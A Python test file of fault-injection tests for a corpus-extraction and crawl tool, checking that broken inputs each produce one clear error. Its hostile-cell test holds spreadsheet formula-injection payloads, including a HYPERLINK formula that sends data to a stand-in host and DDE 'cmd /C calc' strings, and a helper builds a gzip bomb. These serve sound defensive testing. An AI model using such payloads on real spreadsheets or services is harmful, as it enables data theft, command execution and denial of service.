"""Fault injection: every fault on a fresh folder, then what the user gets.

Each test breaks one thing (a dangling link, an unreadable folder, a file that vanishes,
a hostile cell, an archive that is not one, a page nested 10,000 deep, a server that
misbehaves...) next to good documents, and checks the contract of docs/faults.md: the exit
code the README documents, one line per problem (an errors row, a stderr line), every good
document in the tables exactly once, and never a traceback.
"""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest
from extract_corpus import Sample, fake_pipeline

from cchc_nlp.cli import main
from cchc_nlp.dataset import Dataset, inputs, run, worker


@pytest.fixture(scope="module")
def pipeline():
    return fake_pipeline()  # the batch machinery is under test, not the taggers


@pytest.fixture(autouse=True)
def _fake_pipeline(monkeypatch, pipeline):
    monkeypatch.setattr(worker, "_NLP", pipeline)


def _good(folder: Path, n: int = 3, start: int = 0) -> set[str]:
    """n page dumps in `folder`; their paths (the `path` labels they must get)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = set()
    for i in range(start, start + n):
        path = folder / f"dump_{i:03d}.txt"
        path.write_text(Sample(i).dump(), encoding="utf-8")
        paths.add(str(path))
    return paths


def _extract(capsys, *args: str) -> tuple[int, list[str], str]:
    """Run `cchc-nlp extract ... -q`: exit code, stderr lines, stdout."""
    code = main(["extract", *args, "-q"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    return code, captured.err.splitlines(), captured.out


def _assert_tables(out: Path, good: set[str]) -> Dataset:
    """Every good document in the articles table, once; no row twice in any table."""
    ds = Dataset.load(out)
    assert sorted(ds.articles["path"]) == sorted(good)
    assert ds.articles["doc_id"].is_unique
    for table in (ds.entities, ds.metrics, ds.errors):
        assert not table.astype(str).duplicated().any()
    return ds


def _input_errors(ds: Dataset) -> list[tuple[str, str]]:
    rows = ds.errors[ds.errors["stage"] == "input"]
    return sorted(zip(rows["path"], rows["error"], strict=True))


# --------------------------------------------------------------------------- discovery


def test_links_that_dangle_or_loop_are_one_row_each_and_the_run_goes_on(tmp_path, capsys):
    corpus = tmp_path / "mirror"
    good = _good(corpus) | _good(corpus / "2019", start=10)
    (corpus / "gone.txt").symlink_to("nowhere.txt")  # dangling, as `rsync -l` leaves them
    (corpus / "self.txt").symlink_to("self.txt")  # a loop of one link
    (corpus / "2019" / "up").symlink_to("..")  # a folder link to its own ancestor
    (corpus / "notes.md").symlink_to("missing.md")  # not an input type: not a problem
    (corpus / "linked").symlink_to(corpus / "2019")  # the same folder twice: read once
    out = tmp_path / "out"
    code, err, summary = _extract(capsys, str(corpus), "--out", str(out))
    assert code == 1
    problems = [
        (str(corpus / "2019" / "up"), "SymlinkLoop"),
        (str(corpus / "gone.txt"), "DanglingSymlink"),
        (str(corpus / "self.txt"), "SymlinkLoop"),
    ]
    assert len(err) == len(problems) and all(line.startswith("cchc-nlp extract: warning: ") for line in err)
    assert "3 paths under the inputs could not be read" in summary
    ds = _assert_tables(out, good)
    assert _input_errors(ds) == problems
    assert ds.errors["message"].str.contains("fix or remove|remove the link").all()
    assert ds.manifest["counts"]["errors"] == 3 and len(ds.manifest["input_problems"]) == 3
    # a second run: the same problems again (they are looked at anew), nothing twice
    code, err, _ = _extract(capsys, str(corpus), "--out", str(out))
    assert code == 1 and len(err) == 3
    assert _input_errors(_assert_tables(out, good)) == problems


def test_an_unreadable_folder_or_file_is_a_row_not_a_silent_gap(tmp_path, capsys, monkeypatch):
    corpus = tmp_path / "corpus"
    good = _good(corpus)
    _good(corpus / "locked", n=2, start=5)
    secret = corpus / "secret.txt"
    secret.write_text(Sample(9).dump(), encoding="utf-8")
    os.mkfifo(corpus / "pipe.txt")  # reading it would wait forever
    if os.geteuid() == 0:  # root reads everything: refuse as a permission bit would
        listing, access = os.scandir, os.access

        def scandir(path="."):
            if Path(path) == corpus / "locked":
                raise PermissionError(errno.EACCES, "Permission denied", str(path))
            return listing(path)

        monkeypatch.setattr(inputs.os, "scandir", scandir)
        monkeypatch.setattr(inputs.os, "access", lambda p, mode: Path(p) != secret and access(p, mode))
    else:
        (corpus / "locked").chmod(0)
        secret.chmod(0)
    try:
        code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    finally:
        (corpus / "locked").chmod(0o755)
        secret.chmod(0o644)
    assert code == 1 and len(err) == 3
    ds = _assert_tables(tmp_path / "out", good)
    assert _input_errors(ds) == [
        (str(corpus / "locked"), "PermissionError"),
        (str(corpus / "pipe.txt"), "NotAFile"),
        (str(secret), "PermissionError"),
    ]
    # fixed permissions: the next run reads them, and their rows go
    monkeypatch.undo()
    monkeypatch.setattr(worker, "_NLP", fake_pipeline())
    (corpus / "pipe.txt").unlink()
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 0 and err == []
    assert len(_assert_tables(tmp_path / "out", {str(p) for p in corpus.rglob("*.txt")}).errors) == 0


def test_nothing_readable_is_an_input_error_of_one_line(tmp_path, capsys):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").symlink_to("missing.txt")
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 2 and len(err) == 1
    assert "no readable" in err[0] and "a.txt" in err[0] and "does not exist" in err[0]
    (tmp_path / "link").symlink_to(tmp_path / "nothing")
    code, err, _ = _extract(capsys, str(tmp_path / "link"), "--out", str(tmp_path / "out"))
    assert code == 2 and len(err) == 1 and "symbolic link" in err[0]


def test_a_file_that_vanishes_between_listing_and_reading(tmp_path, capsys, monkeypatch):
    corpus = tmp_path / "corpus"
    good = _good(corpus, n=4)
    records = corpus / "records.jsonl"
    records.write_text(json.dumps(Sample(20).record(), ensure_ascii=False) + "\n", encoding="utf-8")
    victims = [corpus / "dump_001.txt", records]
    scan = run.scan_inputs

    def scan_then_delete(*args, **kwargs):
        found = scan(*args, **kwargs)
        for victim in victims:
            victim.unlink()
        return found

    monkeypatch.setattr(run, "scan_inputs", scan_then_delete)
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 1
    ds = _assert_tables(tmp_path / "out", good - {str(victims[0])})
    assert _input_errors(ds) == sorted((str(v), "FileNotFoundError") for v in victims)
    assert ds.errors["message"].str.contains("vanished after it was listed").all()


# --------------------------------------------------------------------------- gone inputs


def test_gone_inputs_are_reported_and_kept_then_pruned(tmp_path, capsys):
    corpus = tmp_path / "corpus"
    good = _good(corpus, n=5)
    out = tmp_path / "out"
    # one task covers several inputs, so pruning must also forget them in shared parts
    assert _extract(capsys, str(corpus), "--out", str(out), "--chunk-size", "4")[0] == 0
    removed = sorted(good)[1:3]
    for path in removed:
        Path(path).unlink()
    code, err, summary = _extract(capsys, str(corpus), "--out", str(out))
    assert code == 0 and err == []
    note = "2 inputs of previous runs are gone (deleted, or not named in this run); their rows are kept"
    assert note + " (use --prune to drop them)" in summary
    ds = _assert_tables(out, good)
    gone = ds.manifest["gone_inputs"]
    assert gone["count"] == 2 and gone["rows"] == "kept" and sorted(gone["paths"]) == removed
    assert sorted(i["path"] for i in ds.manifest["inputs"] if i["gone"]) == removed
    # --prune drops them, for good
    code, err, summary = _extract(capsys, str(corpus), "--out", str(out), "--prune")
    assert code == 0 and "their rows were dropped (--prune)" in summary
    ds = _assert_tables(out, good - set(removed))
    assert ds.manifest["gone_inputs"]["rows"] == "dropped" and not any(i["gone"] for i in ds.manifest["inputs"])
    code, err, summary = _extract(capsys, str(corpus), "--out", str(out))
    assert code == 0 and "are gone" not in summary and "is gone" not in summary
    _assert_tables(out, good - set(removed))


def test_an_input_left_off_a_later_run_is_gone_too(tmp_path, capsys):
    first, second = _good(tmp_path / "a", n=2), _good(tmp_path / "b", n=2, start=4)
    out = tmp_path / "out"
    assert _extract(capsys, str(tmp_path / "a"), str(tmp_path / "b"), "--out", str(out))[0] == 0
    code, _, summary = _extract(capsys, str(tmp_path / "b"), "--out", str(out))
    assert code == 0 and "2 inputs of previous runs are gone" in summary
    _assert_tables(out, first | second)
    assert _extract(capsys, str(tmp_path / "b"), "--out", str(out), "--prune")[0] == 0
    _assert_tables(out, second)


# --------------------------------------------------------------------------- the command line


def test_an_unexpected_exception_is_one_line_and_a_log_file(tmp_path, capsys, monkeypatch):
    from cchc_nlp.cli import extract

    def broken(*args, **kwargs):
        raise RuntimeError("a bug\nover two lines")

    monkeypatch.setattr(extract, "run_extract", broken)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    _good(tmp_path / "corpus", n=1)
    code = main(["extract", str(tmp_path / "corpus"), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err.splitlines()
    assert code == 3 and len(err) == 1
    assert err[0].startswith("cchc-nlp extract: internal error: RuntimeError: a bug over two lines; the traceback is")
    log = Path(err[0].split("the traceback is in ")[1].split(";")[0])
    assert log.parent == tmp_path and "Traceback" in log.read_text(encoding="utf-8")
    assert 'raise RuntimeError("a bug' in log.read_text(encoding="utf-8")
    assert f"command: cchc-nlp extract {tmp_path / 'corpus'} --out" in log.read_text(encoding="utf-8")


def test_report_on_a_folder_that_is_not_a_dataset_exits_2(tmp_path, capsys):
    (tmp_path / "notes").mkdir()
    assert main(["report", str(tmp_path / "notes"), "--out", str(tmp_path / "r.html")]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and "no manifest.json" in err[0] and err[0].startswith("cchc-nlp report: error:")
    shutil.rmtree(tmp_path / "notes")


# --------------------------------------------------------------------------- hostile cells

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "author": "+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "-2+3+cmd|' /C calc'!A0",
}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys):
    import csv

    record = {**Sample(30).record(), **HOSTILE}
    record["text"] = "=1+1\n" + record["text"]
    corpus = tmp_path / "corpus"
    good = _good(corpus, n=2)
    (corpus / "records.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    good.add(f"{corpus / 'records.jsonl'}:1")
    for fmt in ("csv", "jsonl", "parquet"):
        out = tmp_path / fmt
        assert _extract(capsys, str(corpus), "--out", str(out), "--format", fmt)[0] == 0
        ds = _assert_tables(out, good)
        row = ds.articles.set_index("path").loc[f"{corpus / 'records.jsonl'}:1"]
        for column, value in HOSTILE.items():  # the tables read back hold the exact values
            assert row[column] == value, (fmt, column)
        assert row["text"].startswith("=1+1")
    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    hostile = next(r for r in rows if r["path"].endswith("records.jsonl:1"))
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value
    assert hostile["text"].startswith("'=1+1")
    for cells in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells.values() if cell), cells


def test_csv_neutralisation_touches_text_columns_only_and_is_reversible(tmp_path):
    import pyarrow as pa

    from cchc_nlp.dataset.tables import SCHEMAS, read_table, write_table

    values = ["=1+1", "'=x", "''@y", "-5 hồ sơ", "\tindented", "\rreturn", "'quoted", "plain", None]
    schema = SCHEMAS["metrics"]
    rows = [{name: None for name in schema.names} for _ in values]
    for row, value, number in zip(rows, values, range(-4, 5), strict=True):
        row.update(doc_id="d", metric="dossier.received", subject=value, value=float(number), start=number)
    data = pa.Table.from_pylist(rows, schema=schema)
    write_table(data, tmp_path / "m.csv", "csv")
    raw = (tmp_path / "m.csv").read_bytes().decode("utf-8")
    for written in ("'=1+1", "''=x", "'''@y", "'-5 hồ sơ", "'\tindented", "'\rreturn", "'quoted", "plain"):
        assert f'"{written}"' in raw, written
    assert ",-4," in raw  # a negative number in a numeric column is a number, not a formula
    assert read_table(tmp_path / "m.csv", "metrics", "csv").equals(data)
    for fmt in ("parquet", "jsonl"):
        write_table(data, tmp_path / f"m.{fmt}", fmt)
        assert read_table(tmp_path / f"m.{fmt}", "metrics", fmt).equals(data)


# --------------------------------------------------------------------------- archives


def _warc_bytes(pages: list[tuple[str, str]]) -> tuple[bytes, list[int]]:
    """An uncompressed WARC of (url, html) responses; the offsets of the responses."""
    from extract_corpus import write_warc

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.warc"
        offsets = write_warc(path, pages)
        return path.read_bytes(), offsets


def _pages(start: int, n: int) -> list[tuple[str, str]]:
    return [(Sample(i).url.replace("tiengiang", f"warc{start}"), Sample(i).html()) for i in range(start, start + n)]


def test_archives_that_are_not_warcs_or_are_odd(tmp_path, capsys):
    import gzip

    corpus = tmp_path / "corpus"
    good = _good(corpus, n=2)
    # not WARCs: gzipped text, a zip file, an HTML page, each named like a WARC
    (corpus / "notes.warc.gz").write_bytes(gzip.compress(b"hello, this is not a WARC\n" * 500))
    (corpus / "bundle.warc.gz").write_bytes(b"PK\x03\x04" + bytes(300))
    (corpus / "page.warc").write_text(Sample(40).html(), encoding="utf-8")
    # a WARC compressed as one gzip stream (gzip crawl.warc): records by their real offsets
    data, offsets = _warc_bytes(_pages(50, 3))
    (corpus / "single.warc.gz").write_bytes(gzip.compress(data))
    good |= {f"{corpus / 'single.warc.gz'}@0+{offset}" for offset in offsets}
    # a WARC whose first record lies about its length: warcio warns, the pages are read
    data, offsets = _warc_bytes(_pages(60, 2))
    (corpus / "liar.warc").write_bytes(data.replace(b"Content-Length: 2", b"Content-Length: 1", 1))
    good |= {f"{corpus / 'liar.warc'}@{offset}" for offset in offsets}
    # gzip members with junk between two good ones: the junk is skipped, the rest read
    first, second = _warc_bytes(_pages(70, 1)), _warc_bytes(_pages(71, 1))
    junk = gzip.compress(b"this is junk\n" * 3)
    members = gzip.compress(first[0]) + junk + gzip.compress(second[0])
    (corpus / "junk.warc.gz").write_bytes(members)
    good |= {f"{corpus / 'junk.warc.gz'}@0+{first[1][0]}"}
    after = len(gzip.compress(first[0])) + len(junk)
    good |= {f"{corpus / 'junk.warc.gz'}@{after}+{second[1][0]}"}
    code, err, summary = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 1 and err == []  # nothing of warcio's on the terminal
    ds = _assert_tables(tmp_path / "out", good)
    errors = sorted(zip(ds.errors["path"], ds.errors["error"], strict=True))
    assert errors == [
        (str(corpus / "bundle.warc.gz"), "NotAWarc"),
        (str(corpus / "junk.warc.gz"), "MalformedRecords"),
        (str(corpus / "liar.warc"), "MalformedRecords"),
        (str(corpus / "notes.warc.gz"), "NotAWarc"),
        (str(corpus / "page.warc"), "NotAWarc"),
    ]
    messages = dict(zip(ds.errors["path"], ds.errors["message"], strict=True))
    assert (
        "is not a WARC archive (the gzipped file begins with 'hello, this is not a WARC"
        in messages[str(corpus / "notes.warc.gz")]
    )
    assert "Content-Length is invalid" in messages[str(corpus / "liar.warc")]
    assert "the rest of that gzip member was skipped" in messages[str(corpus / "junk.warc.gz")]
    assert all("\n" not in message for message in messages.values())


# --------------------------------------------------------------------------- pathological pages

NUKEVIET_PAGE = (
    Path(__file__).parent / "fixtures/sites/nukeviet/news/cai-cach-hanh-chinh/kiem-tra-cchc-tai-huyen-cho-don-102.html"
)


def _nested(html: str, before: str, depth: int) -> str:
    at = html.index(before)
    return html[:at] + "<div>" * depth + "<p>Đoạn văn nằm rất sâu.</p>" + "</div>" * depth + html[at:]


@pytest.mark.parametrize("depth", [3_000, pytest.param(10_000, marks=pytest.mark.slow)])
def test_html_nested_10000_deep_is_read_or_one_clear_row(tmp_path, capsys, depth):
    """Deeper than Python's recursion limit (1,000), as deep as the issue's page (slow: the
    CSS selectors of the profile visit every element)."""
    corpus = tmp_path / "corpus"
    good = _good(corpus, n=2)
    # a page a site profile reads: walked without recursion, whatever the depth
    profiled = NUKEVIET_PAGE.read_text(encoding="utf-8")
    deep = corpus / "profiled_deep.html"
    deep.write_text(_nested(profiled, "<p", depth), encoding="utf-8")
    good.add(str(deep))
    # a page without a profile, with paragraphs: the generic reader walks it like a profile does
    blocks = corpus / "generic_paragraphs_deep.html"
    blocks.write_text(_nested(Sample(81).html(), "<p>", depth), encoding="utf-8")
    good.add(str(blocks))
    # a page only trafilatura reads (no paragraphs): lxml would drop what is below 256 levels
    generic = corpus / "generic_deep.html"
    generic.write_text(
        _nested(Sample(80).html().replace("<p>", "<div>").replace("</p>", "</div>"), "<div>", depth), encoding="utf-8"
    )
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 1 and err == []
    ds = _assert_tables(tmp_path / "out", good)
    assert "Đoạn văn nằm rất sâu." in ds.articles.set_index("path").at[str(deep), "text"]
    assert "Đoạn văn nằm rất sâu." in ds.articles.set_index("path").at[str(blocks), "text"]
    (row,) = ds.errors.itertuples()
    assert (row.path, row.stage) == (str(generic), "page")
    assert f"nests {depth + 4:,} elements deep" in row.message and "fix the page's markup" in row.message
    assert "RecursionError" not in row.message


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-32", "utf-32-be", "utf-8-sig"])
def test_text_and_html_with_a_byte_order_mark_are_decoded(tmp_path, capsys, codec):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    mark = {"utf-16-be": "\ufeff", "utf-32-be": "\ufeff"}.get(codec, "")  # the BE codecs write no mark by themselves
    (corpus / "dump.txt").write_bytes((mark + Sample(90).dump()).encode(codec))
    (corpus / "page.html").write_bytes((mark + Sample(91).html()).encode(codec))
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 0 and err == []
    ds = _assert_tables(tmp_path / "out", {str(corpus / "dump.txt"), str(corpus / "page.html")})
    assert set(ds.articles["title"]) == {Sample(90).title, Sample(91).title}


def test_utf16_without_a_mark_is_one_row_with_the_right_hint(tmp_path, capsys):
    corpus = tmp_path / "corpus"
    good = _good(corpus, n=1)
    (corpus / "notepad.txt").write_bytes(Sample(92).dump().encode("utf-16-le"))
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 1
    (row,) = _assert_tables(tmp_path / "out", good).errors.itertuples()
    assert row.stage == "decode" and "iconv -f utf-16le -t utf-8" in row.message


# --------------------------------------------------------------------------- crawl


def _site(root: Path, depth: int) -> dict[str, str]:
    """A portal whose listing (nested `depth` deep) links an article, a page nested deeper
    than lxml reads, a redirect loop, a response that claims gzip but is not, one with an
    unknown charset and a missing page."""
    names = ["ok", "deep", "loop", "badgzip", "charset", "missing"]
    urls = {name: f"/tin-tuc/cai-cach-hanh-chinh/bai-{name}-2023040{i}.html" for i, name in enumerate(names, 1)}
    items = "".join(
        f"<div class='item'><h3><a href='{url}'>Hội nghị cải cách hành chính số {i} của huyện</a></h3></div>"
        for i, url in enumerate(urls.values())
    )
    deep_listing = "<div>" * depth + f"<div class='list'>{items}</div>" + "</div>" * depth
    (root / "index.html").parent.mkdir(parents=True, exist_ok=True)
    (root / "index.html").write_text(f"<html><body>{deep_listing}</body></html>", encoding="utf-8")
    (root / "robots.txt").write_text("User-agent: *\nAllow: /\n", encoding="utf-8")
    folder = root / "tin-tuc" / "cai-cach-hanh-chinh"
    folder.mkdir(parents=True)
    (folder / Path(urls["ok"]).name).write_text(Sample(100).html(), encoding="utf-8")
    deep = _nested(Sample(101).html(), "<p>", max(depth, 300))
    (folder / Path(urls["deep"]).name).write_text(deep, encoding="utf-8")
    (folder / "charset.html").write_text(Sample(102).html().replace("charset='utf-8'", ""), encoding="utf-8")
    routes = {
        urls["loop"]: {"status": 302, "headers": {"Location": urls["loop"] + "?lap=1"}},
        urls["loop"] + "?lap=1": {"status": 302, "headers": {"Location": urls["loop"]}},
        urls["badgzip"]: {
            "body": "không phải gzip",
            "content_type": "text/html",
            "headers": {"Content-Encoding": "gzip"},
        },
        urls["charset"]: {"file": str(folder / "charset.html"), "content_type": "text/html; charset=klingon"},
    }
    (root / "routes.json").write_text(json.dumps(routes), encoding="utf-8")
    return urls


@pytest.mark.parametrize("depth", [0, pytest.param(10_000, marks=pytest.mark.slow)])
def test_a_crawl_of_a_misbehaving_portal_then_its_extraction(tmp_path, capsys, monkeypatch, depth):
    from cchc_nlp.crawl import CrawlState
    from cchc_nlp.testing import start_fixture_server

    for name in list(os.environ):
        if "proxy" in name.lower():
            monkeypatch.delenv(name)
    urls = _site(tmp_path / "site", depth)
    corpus = tmp_path / "corpus"
    with start_fixture_server(tmp_path / "site") as server:
        args = ["--allow-private", "--delay", "0", "--quiet", "--timeout", "2", "--retries", "1"]
        code = main(["crawl", server.base_url + "/", "--out", str(corpus), *args])
    captured = capsys.readouterr()
    assert code == 1 and "Traceback" not in captured.err + captured.out
    assert captured.err == "" and len(captured.out.splitlines()) == 1 and "failed 3" in captured.out
    state = CrawlState(corpus / "crawl.sqlite")
    row = {name: state.get(server.base_url + url) for name, url in urls.items()}
    state.close()
    assert row["ok"]["status"] == "done" and row["charset"]["status"] == "done"
    assert row["loop"]["status"] == "failed" and "redirects" in row["loop"]["reason"]
    assert row["badgzip"]["status"] == "failed" and "ContentDecodingError" in row["badgzip"]["reason"]
    assert row["missing"]["status"] == "failed"
    # the page nested deeper than lxml reads has paragraphs: the generic reader walks it whole
    assert row["deep"]["status"] == "done" and row["deep"]["is_article"] == 1
    # the archive it wrote: every good page an article once
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 0 and err == []
    ds = Dataset.load(tmp_path / "out")
    assert {server.base_url + urls[name] for name in ("ok", "charset", "deep")} <= set(ds.articles["url"])
    assert ds.articles["doc_id"].is_unique and ds.articles["path"].is_unique
    deep = ds.articles.set_index("url").at[server.base_url + urls["deep"], "text"]
    assert "Đoạn văn nằm rất sâu." in deep


def test_crawl_command_faults_are_one_line(tmp_path, capsys):
    import socket

    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    args = ["--allow-private", "--delay", "0", "--quiet", "--timeout", "1", "--retries", "0"]
    cases = [
        (
            ["crawl", f"http://127.0.0.1:{port}/", "--out", str(tmp_path / "a"), *args],
            1,
            "no start URL could be crawled",
        ),
        (["crawl", "ftp://a.vn/x", "--out", str(tmp_path / "b")], 2, "not an http(s) URL"),
    ]
    (tmp_path / "file").write_text("x", encoding="utf-8")
    cases.append((["crawl", "http://127.0.0.1/", "--out", str(tmp_path / "file"), *args], 2, "is a file"))
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "crawl.sqlite").write_bytes(b"not a database " * 100)
    cases.append((["crawl", "http://127.0.0.1/", "--out", str(tmp_path / "c"), *args], 2, "not a crawl state database"))
    for argv, expected, message in cases:
        code = main(argv)
        err = capsys.readouterr().err.splitlines()
        assert (code, len(err)) == (expected, 1), (argv, err)
        assert message in err[0] and err[0].startswith("cchc-nlp crawl: error:")


# --------------------------------------------------------------------------- files a user names


@pytest.mark.parametrize("task", ["metrics", "panel", "entities"])
def test_a_gold_file_that_is_not_utf8_is_one_line_exit_2(tmp_path, capsys, task):
    gold = tmp_path / "gold_cp1258.jsonl"
    # windows-1258 bytes of "Tháng 5" (0xE1 = á): Notepad's "ANSI" on a Vietnamese Windows
    gold.write_bytes(b'{"id": "a", "text": "Ng\xe0y 1"}\n{"text": "Th\xe1ng 5"}\n')
    folder = tmp_path / "folder.jsonl"
    folder.mkdir()
    for path, message in ((gold, "is not UTF-8 (byte 0xe0 on line 1); save it as UTF-8"), (folder, "is a folder")):
        code = main(["evaluate", task, "--gold", str(path)])
        captured = capsys.readouterr()
        err = captured.err.splitlines()
        assert (code, len(err)) == (2, 1), err
        assert err[0].startswith("cchc-nlp evaluate: error: gold file") and message in err[0], err
        assert "Traceback" not in captured.err + captured.out


def test_a_site_profile_that_is_not_utf8_is_one_line_exit_2(tmp_path, capsys):
    profile = tmp_path / "portal.json"
    profile.write_bytes(b'{"name": "c\xf4ng th\xf4ng tin"}')
    code = main(["crawl", "http://127.0.0.1/", "--out", str(tmp_path / "c"), "--profile", str(profile)])
    err = capsys.readouterr().err.splitlines()
    assert (code, len(err)) == (2, 1), err
    assert f"site profile {profile} is not UTF-8 (byte 0xf4 on line 1)" in err[0]


def test_a_robots_txt_that_is_not_utf8_is_served_and_obeyed(tmp_path, capsys, monkeypatch):
    from cchc_nlp.crawl import CrawlState
    from cchc_nlp.testing import start_fixture_server

    for name in list(os.environ):
        if "proxy" in name.lower():
            monkeypatch.delenv(name)
    site = tmp_path / "site"
    article = "/tin-tuc/hoi-nghi-cai-cach-hanh-chinh-20230405.html"
    hidden = "/noi-bo/hoi-nghi-noi-bo-20230406.html"
    items = "".join(
        f"<div class='item'><h3><a href='{url}'>Hội nghị cải cách hành chính số {i} của huyện</a></h3></div>"
        for i, url in enumerate([article, hidden, article.replace("0405", "0407")])
    )
    site.mkdir()
    (site / "index.html").write_text(f"<html><body><div class='list'>{items}</div></body></html>", encoding="utf-8")
    for path, sample in ((article, 110), (hidden, 111)):
        (site / path.lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
        (site / path.lstrip("/")).write_text(Sample(sample).html(), encoding="utf-8")
    # windows-1258 comment bytes (0xD0 = Đ, 0xE1 = á) as an old IIS portal serves it; {base} still filled in
    (site / "robots.txt").write_bytes(
        b"# C\xf4ng th\xf4ng tin \xd0i\xea\xf2n t\xf6\xfb\r\nUser-agent: *\r\nDisallow: /noi-bo/\r\n"
        b"Sitemap: {base}/khong-co-sitemap.xml\r\n"
    )
    with start_fixture_server(site) as server:
        args = ["--allow-private", "--delay", "0", "--quiet", "--timeout", "2", "--retries", "0"]
        code = main(["crawl", server.base_url + "/", "--out", str(tmp_path / "corpus"), *args])
        robots = [r for r in server.requests if r.path == "/robots.txt"]
        assert server.count(hidden) == 0 and server.count(article) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out and len(robots) == 1
    state = CrawlState(tmp_path / "corpus" / "crawl.sqlite")
    assert state.get(server.base_url + hidden)["status"] == "refused"
    assert state.get(server.base_url + article)["status"] == "done"
    state.close()
    assert code == 1  # the refused page, the missing third article and sitemap count as failures


def _bomb_warc(path: Path, pages: list[tuple[str, str]]) -> list[str]:
    """A .warc.gz (one gzip member per record) of two good pages with, between them, a response
    stored with Content-Encoding: gzip whose body inflates from 120 KB to 120 MB (a gzip bomb) and
    a plain 12 MB one. The URLs of the two oversized records."""
    import zlib

    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    bomb = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    payload = bomb.compress(b"<html><body><p>" + b"a" * (120 << 20)) + bomb.flush()
    assert len(payload) < 1 << 20
    plain = b"<html><body>" + "<p>Trang rất lớn.</p>".encode() * 600_000 + b"</body></html>"
    records = [
        (pages[0][0], pages[0][1].encode(), []),
        ("http://bom.vn/no.html", payload, [("Content-Encoding", "gzip")]),
        ("http://bom.vn/lon.html", plain, []),
        (pages[1][0], pages[1][1].encode(), []),
    ]
    with open(path, "wb") as handle:
        writer = WARCWriter(handle, gzip=True)
        for url, body, extra in records:
            http = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8"), *extra], "HTTP/1.1")
            record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=http)
            writer.write_record(record)
    return ["http://bom.vn/no.html", "http://bom.vn/lon.html"]


def test_an_archived_body_is_never_read_past_the_size_limit(tmp_path, capsys):
    import tracemalloc

    from cchc_nlp.dataset.readers import MAX_DOCUMENT_BYTES
    from cchc_nlp.ingest.archive import iter_archived_pages

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    oversized = _bomb_warc(corpus / "bomb.warc.gz", _pages(80, 2))
    tracemalloc.start()
    try:
        pages = list(iter_archived_pages(corpus, max_body=MAX_DOCUMENT_BYTES))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 60 << 20  # the bomb inflates to 120 MB: reading it whole peaked at 240 MB
    assert [p.oversize for p in pages] == [None, MAX_DOCUMENT_BYTES, MAX_DOCUMENT_BYTES, None]
    assert [len(p.body) > 0 for p in pages] == [True, False, False, True]
    code, err, _ = _extract(capsys, str(corpus), "--out", str(tmp_path / "out"))
    assert code == 1 and err == []
    ds = Dataset.load(tmp_path / "out")
    assert len(ds.articles) == 2 and ds.articles["doc_id"].is_unique
    assert len(ds.errors) == len(oversized) and set(ds.errors["stage"]) == {"read"}
    assert {p.position for p in pages[1:3]} == {path.split("@")[1] for path in ds.errors["path"]}
    for message in ds.errors["message"]:
        assert message.startswith("archived page of more than 10,000,000 bytes") and "gzip bomb" in message


@pytest.mark.parametrize(
    "task, line, message",
    [
        ("panel", '{"id": "x", "documents": "a", "metrics": 1, "cells": 5}', "'documents' must be a list of objects"),
        ("panel", "5", "a panel set needs id, documents, metrics, cells"),
        (
            "panel",
            '{"id": "x", "documents": [], "metrics": {}, "cells": [{"province": "Atlantis"}]}',
            "unknown province",
        ),
        ("panel", "{not json", "not valid JSON"),
        ("metrics", '{"text": "Hội nghị.", "metrics": [1]}', "'metrics' must be a list of objects"),
        ("metrics", "[1, 2]", "a gold document needs a 'text'"),
        ("entities", '{"text": "Hội nghị.", "entities": [{"label": "XYZ", "text": "Hội"}]}', "unknown entity label"),
    ],
)
def test_a_malformed_gold_file_is_one_line_exit_2(tmp_path, capsys, task, line, message):
    gold = tmp_path / "gold.jsonl"
    gold.write_text(line + "\n", encoding="utf-8")
    code = main(["evaluate", task, "--gold", str(gold)])
    captured = capsys.readouterr()
    err = captured.err.splitlines()
    assert (code, len(err)) == (2, 1), err
    assert err[0].startswith(f"cchc-nlp evaluate: error: {gold}:1: ") and message in err[0], err


def test_analyze_names_the_file_of_a_document_it_cannot_read(tmp_path, capsys):
    (tmp_path / "cp1258.txt").write_bytes("Tháng 5 năm nay".encode("cp1258"))
